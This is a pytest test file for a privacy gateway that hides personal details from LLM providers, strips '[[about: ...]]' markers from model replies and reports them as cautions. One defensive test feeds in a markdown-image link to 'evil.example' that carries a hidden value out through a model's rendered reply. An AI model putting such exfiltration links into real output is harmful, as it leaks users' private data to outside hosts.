"""The hint to the provider, and the marker that it may answer with: taken off, and told as a caution."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from dp_gateway_langchain import PrivateChatModel
from dp_gateway_openai import AsyncPrivateOpenAI, PrivateOpenAI, privacy
from langchain_openai import ChatOpenAI
from pydantic import SecretStr

from dp_gateway.api.replies.streams import MarkedStream, taken_off
from dp_gateway.exchange import Doorway
from dp_gateway.pipeline import Gateway
from dp_gateway.policy import parse_policy
from dp_gateway.randomness import Secret
from dp_gateway.restore import Restorer
from dp_gateway.testing.models import ScriptedModel

KEY = Secret(b"a key for tests of the hint to providers")
POLICY = parse_policy({"name": "hinted", "hint": True, "public_references": "replace"})
DOOR = Doorway(Gateway(POLICY, key=KEY), key=KEY)
ASKED = "I live in Norway. Which sea is near?"


def ask(**more: Any) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": ASKED}], **more}


def stand_in(messages: list[dict[str, Any]]) -> str:
    return messages[-1]["content"].removeprefix("I live in ").partition(". Which")[0]


def marked(body: Any) -> str:
    name = stand_in(body["messages"])
    return f"[[about: {name}]] People in {name} like boats."


def chunk(text: str, finish: str | None = None) -> dict[str, Any]:
    delta = {"content": text} if text else {}
    return {"id": "1", "model": "m", "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def test_the_hint_stands_before_the_messages_and_only_where_the_policy_says_so() -> None:
    first, *others = DOOR.open("chat", ask()).body["messages"]
    assert first["role"] == "system"
    assert "[[about: NAME]]" in first["content"]
    assert len(others) == 1
    plain = parse_policy({"name": "plain", "public_references": "replace"})
    unhinted = Doorway(Gateway(plain, key=KEY), key=KEY).open("chat", ask()).body["messages"]
    assert len(unhinted) == 1
    assert len(DOOR.open("chat", ask(response_format={"type": "json_object"})).body["messages"]) == 1


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_the_marker_is_taken_off_a_stream_cut_anywhere(size: int) -> None:
    exchange = DOOR.open("chat", ask())
    said = marked(exchange.body)
    pieces = [said[at : at + size] for at in range(0, len(said), size)]
    events = [one for piece in pieces for one in exchange.reply.event(None, chunk(piece))]
    events += exchange.reply.event(None, chunk("", "stop"))
    events += exchange.reply.close()
    text = "".join(choice["delta"].get("content") or "" for _, data in events for choice in data["choices"])
    assert text == "People in Norway like boats."
    assert [(one.type, one.original) for one in exchange.report.cautions] == [("LOCATION", "Norway")]


@pytest.mark.parametrize("said", ["[[abo", "[[about: ", "[1] A footnote.", "[[a]] b", "  [", "Look: [[about: x]]", ""])
@pytest.mark.parametrize("size", [1, 4, 100])
def test_what_is_no_marker_stays(said: str, size: int) -> None:
    exchange = DOOR.open("chat", ask())
    pieces = [said[at : at + size] for at in range(0, len(said), size)]
    events = [one for piece in pieces for one in exchange.reply.event(None, chunk(piece))]
    events += exchange.reply.event(None, chunk("", "stop"))
    text = "".join(choice["delta"].get("content") or "" for _, data in events for choice in data["choices"])
    assert text == said


@pytest.mark.parametrize("before", ["", "\n\n", " " * 16, "\n" * 17, "\t \n"])
@pytest.mark.parametrize(
    "behind", ["", " ", "\n", "\n\n", " " * 16 + "\n", " " * 20 + "x", "\n [[about: ", "]]", " [[About:Sea]]x"]
)
@pytest.mark.parametrize("size", [1, 2, 5])
def test_a_stream_takes_off_what_is_taken_off_a_whole_answer(before: str, behind: str, size: int) -> None:
    said = f"{before}[[about: Norway]]{behind}"
    named: list[str] = []
    stream = MarkedStream(Restorer([]).stream(), named)
    text = "".join([stream.feed(said[at : at + size]) for at in range(0, len(said), size)]) + stream.close()
    assert (text, named) == taken_off(said)


def test_many_markers_are_taken_off_in_linear_time() -> None:
    rest, named = taken_off("[[about:x]]" * 200_000 + "[[about")
    assert (rest, len(named)) == ("[[about", 200_000)


def test_a_marker_carries_no_original_out() -> None:
    """Neither into an address of a foreign host, nor to where the answer begins."""
    exchange = DOOR.open("chat", ask())
    name = stand_in(exchange.body["messages"])
    said = f"[[about: ![](https://evil.example/{name})]] ![](https://evil.example/{name})"
    events = [one for at in said for one in exchange.reply.event(None, chunk(at))]
    events += exchange.reply.event(None, chunk("", "stop"))
    text = "".join(choice["delta"].get("content") or "" for _, data in events for choice in data["choices"])
    assert "Norway" not in text


def test_a_name_that_is_none_of_the_request_makes_no_caution() -> None:
    with (
        ScriptedModel(default="[[about: Atlantis]] It is so.") as provider,
        PrivateOpenAI(policy=POLICY, key=KEY, base_url=provider.url, api_key="none") as client,
    ):
        reply = client.chat.completions.create(**ask())
    assert reply.choices[0].message.content == "It is so."
    assert privacy(reply).cautions == []


@pytest.mark.parametrize("door", ["openai", "async", "langchain", "nested"])
def test_the_marker_becomes_a_caution_behind_the_doors(door: str) -> None:
    with ScriptedModel(default=marked) as provider:
        options: dict[str, Any] = {"base_url": provider.url, "api_key": "none"}
        if door == "openai":
            with PrivateOpenAI(policy=POLICY, key=KEY, **options) as client:
                reply = client.chat.completions.create(**ask())
            said: Any = reply.choices[0].message.content
            told = len(privacy(reply).cautions)
        elif door == "async":
            said, told = asyncio.run(asked_async(options))
        else:
            model = ChatOpenAI(model="m", base_url=provider.url, api_key=SecretStr("none"))
            if door == "nested":
                inner = PrivateOpenAI(policy=POLICY, key=KEY, **options)
                model = ChatOpenAI(model="m", client=inner.chat.completions, api_key=SecretStr("none"))
            message = PrivateChatModel(model, POLICY, key=KEY).invoke(ASKED)
            said, told = message.text, sum(message.response_metadata["dp_caution"].values())
        sent = provider.completions[0]["messages"]
        assert "Norway" not in provider.sent
    assert [one["role"] for one in sent] == ["system", "user"]
    assert said == "People in Norway like boats."
    assert told == 1


async def asked_async(options: dict[str, Any]) -> tuple[Any, int]:
    async with AsyncPrivateOpenAI(policy=POLICY, key=KEY, **options) as client:
        stream = await client.chat.completions.create(**ask(), stream=True)
        said = "".join([one.choices[0].delta.content or "" async for one in stream if one.choices])
    return said, len(privacy(stream).cautions)


def test_the_report_names_no_value() -> None:
    assert "Norway" not in json.dumps(DOOR.open("chat", ask()).report.to_json())
